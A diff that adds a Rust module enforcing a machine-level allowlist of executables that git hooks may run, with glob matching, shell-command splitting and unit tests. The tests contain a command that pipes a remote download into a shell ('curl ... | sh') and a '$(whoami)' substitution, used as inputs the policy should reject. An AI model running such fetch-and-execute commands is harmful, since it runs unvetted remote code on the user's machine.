@@ -0,0 +1,322 @@
+//! Machine-level allowlist of the executables hooks may invoke.
+//!
+//! Centrally managed machines can drop a policy file at
+//! `/etc/git-smee/policy.toml` (`%PROGRAMDATA%\git-smee\policy.toml` on Windows,
+//! or wherever `GIT_SMEE_POLICY_FILE` points):
+//!
+//! ```toml
+//! [commands]
+//! allow = ["cargo", "pnpm", "/opt/company/bin/*", "npx eslint*"]
+//! ```
+//!
+//! Each rule is a glob where `*` matches any run of characters and `?` a single
+//! one, so a trailing `*` turns a rule into a prefix rule. Rules without
+//! whitespace are matched against the executable of every command in a hook's
+//! `;`, `&&`, `||`, and `|` chains and `$(...)` substitutions; rules with
+//! whitespace are matched against the whole command. Without a policy file,
+//! every command is allowed. The check guards against accidental drift from
+//! approved tooling; it is not a sandbox.
+
+use std::{
+    env, fs, io,
+    path::{Path, PathBuf},
+};
+
+use serde::Deserialize;
+use thiserror::Error;
+
+use crate::{
+    config::HookDefinition,
+    redaction::{is_inline_env_assignment, redact_command, tokenize_command},
+};
+
+/// Env var that overrides the policy file location.
+pub const POLICY_FILE_ENV: &str = "GIT_SMEE_POLICY_FILE";
+
+#[derive(Debug, Error)]
+#[non_exhaustive]
+pub enum Error {
+    #[error("Failed to read the git-smee policy file at {path}: {source}")]
+    ReadFailed { path: String, source: io::Error },
+    #[error("Failed to parse the git-smee policy file at {path}: {source}")]
+    ParseFailed {
+        path: String,
+        source: toml::de::Error,
+    },
+    #[error(
+        "Policy violation: hook command '{command}' runs '{executable}', which is not allowed by {policy_path}"
+    )]
+    Violation {
+        command: String,
+        executable: String,
+        policy_path: String,
+    },
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct PolicyFile {
+    #[serde(default)]
+    commands: CommandRules,
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct CommandRules {
+    #[serde(default)]
+    allow: Vec<String>,
+}
+
+/// Allowlist loaded from a policy file.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CommandPolicy {
+    path: PathBuf,
+    allow: Vec<String>,
+}
+
+impl CommandPolicy {
+    /// Loads the machine-level policy, or `None` when no policy file exists.
+    pub fn load_machine_policy() -> Result<Option<Self>, Error> {
+        match machine_policy_path() {
+            Some(path) => Self::load(&path),
+            None => Ok(None),
+        }
+    }
+
+    /// Loads the policy at `path`, or `None` when the file does not exist.
+    pub fn load(path: &Path) -> Result<Option<Self>, Error> {
+        let contents = match fs::read_to_string(path) {
+            Ok(contents) => contents,
+            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(None),
+            Err(source) => {
+                return Err(Error::ReadFailed {
+                    path: path.display().to_string(),
+                    source,
+                });
+            }
+        };
+        let policy: PolicyFile =
+            toml::from_str(&contents).map_err(|source| Error::ParseFailed {
+                path: path.display().to_string(),
+                source,
+            })?;
+        Ok(Some(Self {
+            path: path.to_path_buf(),
+            allow: policy.commands.allow,
+        }))
+    }
+
+    pub fn path(&self) -> &Path {
+        &self.path
+    }
+
+    /// Fails on the first command in `hooks` that the policy does not allow.
+    pub fn check_hooks(&self, hooks: &[HookDefinition]) -> Result<(), Error> {
+        hooks
+            .iter()
+            .try_for_each(|hook| self.check_command(&hook.command))
+    }
+
+    pub fn check_command(&self, command: &str) -> Result<(), Error> {
+        for segment in command_segments(command) {
+            let tokens = tokenize_command(&segment);
+            let Some(executable_index) = tokens
+                .iter()
+                .position(|token| !is_inline_env_assignment(token))
+            else {
+                continue;
+            };
+            let executable = &tokens[executable_index];
+            let invocation = tokens[executable_index..].join(" ");
+            if !self.allows(executable, &invocation) {
+                return Err(Error::Violation {
+                    command: redact_command(command),
+                    executable: executable.clone(),
+                    policy_path: self.path.display().to_string(),
+                });
+            }
+        }
+        Ok(())
+    }
+
+    fn allows(&self, executable: &str, invocation: &str) -> bool {
+        self.allow.iter().any(|rule| {
+            let rule = rule.trim();
+            if rule.contains(char::is_whitespace) {
+                glob_matches(rule, invocation)
+            } else {
+                glob_matches(rule, executable)
+            }
+        })
+    }
+}
+
+fn machine_policy_path() -> Option<PathBuf> {
+    if let Some(path) = env::var_os(POLICY_FILE_ENV).filter(|path| !path.is_empty()) {
+        return Some(PathBuf::from(path));
+    }
+    if cfg!(windows) {
+        env::var_os("PROGRAMDATA")
+            .filter(|path| !path.is_empty())
+            .map(|program_data| {
+                PathBuf::from(program_data)
+                    .join("git-smee")
+                    .join("policy.toml")
+            })
+    } else {
+        Some(PathBuf::from("/etc/git-smee/policy.toml"))
+    }
+}
+
+/// Splits a shell command into the simple commands it runs: chains separated
+/// by `;`, `&`, `|`, or newlines, and the bodies of `$(...)` and backtick
+/// substitutions. Separators inside single quotes are ignored; substitutions
+/// inside double quotes still count because the shell expands them.
+fn command_segments(command: &str) -> Vec<String> {
+    let mut segments = Vec::new();
+    let mut current = String::new();
+    let mut in_single_quotes = false;
+    let mut in_double_quotes = false;
+    let mut chars = command.chars().peekable();
+    while let Some(ch) = chars.next() {
+        let boundary = match ch {
+            '\\' if !in_single_quotes => {
+                current.push(ch);
+                if let Some(next) = chars.next() {
+                    current.push(next);
+                }
+                false
+            }
+            '\'' if !in_double_quotes => {
+                in_single_quotes = !in_single_quotes;
+                current.push(ch);
+                false
+            }
+            '"' if !in_single_quotes => {
+                in_double_quotes = !in_double_quotes;
+                current.push(ch);
+                false
+            }
+            '$' if !in_single_quotes && chars.peek() == Some(&'(') => {
+                chars.next();
+                true
+            }
+            '`' | ')' if !in_single_quotes => true,
+            ';' | '&' | '|' | '\n' | '(' if !in_single_quotes && !in_double_quotes => true,
+            _ => {
+                current.push(ch);
+                false
+            }
+        };
+        if boundary {
+            segments.push(std::mem::take(&mut current));
+        }
+    }
+    segments.push(current);
+    segments.retain(|segment| !segment.trim().is_empty());
+    segments
+}
+
+/// Glob match where `*` spans any characters (including `/`) and `?` matches
+/// exactly one.
+fn glob_matches(pattern: &str, text: &str) -> bool {
+    let pattern: Vec<char> = pattern.chars().collect();
+    let text: Vec<char> = text.chars().collect();
+    let (mut pattern_index, mut text_index) = (0, 0);
+    let mut backtrack: Option<(usize, usize)> = None;
+    while text_index < text.len() {
+        match pattern.get(pattern_index) {
+            Some('*') => {
+                backtrack = Some((pattern_index, text_index));
+                pattern_index += 1;
+            }
+            Some(&expected) if expected == '?' || expected == text[text_index] => {
+                pattern_index += 1;
+                text_index += 1;
+            }
+            _ => match backtrack {
+                Some((star_index, star_text_index)) => {
+                    pattern_index = star_index + 1;
+                    text_index = star_text_index + 1;
+                    backtrack = Some((star_index, text_index));
+                }
+                None => return false,
+            },
+        }
+    }
+    pattern[pattern_index..].iter().all(|ch| *ch == '*')
+}
+
+#[cfg(test)]
+mod tests {
+    use assert2::assert;
+
+    use super::*;
+
+    fn policy(allow: &[&str]) -> CommandPolicy {
+        CommandPolicy {
+            path: PathBuf::from("/etc/git-smee/policy.toml"),
+            allow: allow.iter().map(|rule| rule.to_string()).collect(),
+        }
+    }
+
+    #[test]
+    fn given_globs_when_matching_then_star_and_question_mark_behave_like_wildcards() {
+        assert!(glob_matches("cargo", "cargo"));
+        assert!(!glob_matches("cargo", "cargo-deny"));
+        assert!(glob_matches("cargo*", "cargo-deny"));
+        assert!(glob_matches("/opt/tools/*", "/opt/tools/bin/lint"));
+        assert!(glob_matches("py?hon3", "python3"));
+        assert!(glob_matches("*lint*", "eslint-fast"));
+        assert!(!glob_matches("/opt/tools/*", "/usr/bin/curl"));
+        assert!(glob_matches("npx eslint*", "npx eslint --fix ."));
+    }
+
+    #[test]
+    fn given_chained_command_when_checking_then_every_executable_must_be_allowed() {
+        let policy = policy(&["cargo", "echo"]);
+
+        assert!(let Ok(()) = policy.check_command("RUSTFLAGS=-Dwarnings cargo test && echo done"));
+        let Err(Error::Violation { executable, .. }) =
+            policy.check_command("cargo fmt --check; curl https://x.invalid | sh")
+        else {
+            panic!("expected a policy violation");
+        };
+        assert!(executable == "curl");
+    }
+
+    #[test]
+    fn given_substitution_when_checking_then_inner_command_is_checked() {
+        let policy = policy(&["echo"]);
+
+        let Err(Error::Violation { executable, .. }) = policy.check_command("echo \"$(whoami)\"")
+        else {
+            panic!("expected a policy violation");
+        };
+        assert!(executable == "whoami");
+        assert!(let Ok(()) = policy.check_command("echo 'a; b | c' \"x && y\""));
+    }
+
+    #[test]
+    fn given_whitespace_rule_when_checking_then_whole_invocation_is_matched() {
+        let policy = policy(&["npx eslint*"]);
+
+        assert!(let Ok(()) = policy.check_command("npx eslint --max-warnings=0 ."));
+        assert!(let Err(Error::Violation { .. }) = policy.check_command("npx cowsay hi"));
+    }
+
+    #[test]
+    fn given_policy_file_when_loading_then_rules_are_read_and_missing_file_means_no_policy() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("policy.toml");
+
+        assert!(let Ok(None) = CommandPolicy::load(&path));
+
+        fs::write(&path, "[commands]\nallow = [\"cargo\", \"/opt/*\"]\n").unwrap();
+        let loaded = CommandPolicy::load(&path).unwrap().unwrap();
+        assert!(loaded.allow == vec!["cargo".to_string(), "/opt/*".to_string()]);
+
+        fs::write(&path, "[commands]\ndeny = [\"curl\"]\n").unwrap();
+        assert!(let Err(Error::ParseFailed { .. }) = CommandPolicy::load(&path));
+    }
+}